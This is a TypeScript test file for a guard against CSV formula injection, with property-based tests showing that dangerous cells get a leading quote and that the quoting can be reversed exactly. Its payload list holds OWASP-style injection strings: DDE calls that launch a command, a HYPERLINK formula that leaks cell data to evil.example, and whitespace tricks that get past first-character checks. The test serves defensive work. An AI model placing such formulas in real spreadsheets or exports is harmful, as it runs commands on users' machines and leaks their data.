import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { SPREADSHEET_EVALUATES } from "./csv-cells-test-support.ts";
import { guardFormula, unguardFormula } from "./formula-guard.ts";

/** OWASP's examples and the ways around a check of the first character only. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "   @SUM(A1)",
  "\u00a0=1+1",
] as const;

/** Characters that make up the cases that matter: triggers, the guard itself, spaces, letters. */
const tricky = fc
  .array(fc.constantFrom("'", " ", "=", "+", "-", "@", "\t", "\r", "\n", "a", "é", "😀"), { maxLength: 8 })
  .map((parts) => parts.join(""));

describe("guardFormula", () => {
  it.each(PAYLOADS)("puts a quote before %j", (payload) => {
    expect(guardFormula(payload)).toBe(`'${payload}`);
  });

  it.each(["Fabrikam", "O'Brien & Sons", "'quoted'", "a=b", "1-2", "", "Zoë Ltd"])(
    "leaves %j as it is",
    (text) => {
      expect(guardFormula(text)).toBe(text);
    },
  );

  it("puts one more quote before text that already starts with quotes before a formula", () => {
    expect(guardFormula("'=1+1")).toBe("''=1+1");
    expect(guardFormula("'' -1")).toBe("''' -1");
  });

  it("leaves nothing a spreadsheet would evaluate, and unguardFormula gives back exactly what it was given", () => {
    fc.assert(
      fc.property(fc.oneof(tricky, fc.string({ unit: "grapheme" }), fc.constantFrom(...PAYLOADS)), (text) => {
        const guarded = guardFormula(text);
        expect(SPREADSHEET_EVALUATES.test(guarded)).toBe(false);
        expect(unguardFormula(guarded)).toBe(text);
      }),
    );
  });
});

describe("unguardFormula", () => {
  it("drops the quote only before what a spreadsheet would evaluate", () => {
    expect(unguardFormula("'=cmd|' /C calc'!A0")).toBe("=cmd|' /C calc'!A0");
    expect(unguardFormula("' @SUM(A1)")).toBe(" @SUM(A1)");
    expect(unguardFormula("''=1")).toBe("'=1");
    expect(unguardFormula("'quoted'")).toBe("'quoted'");
    expect(unguardFormula("O'Brien")).toBe("O'Brien");
    expect(unguardFormula("'")).toBe("'");
  });
});
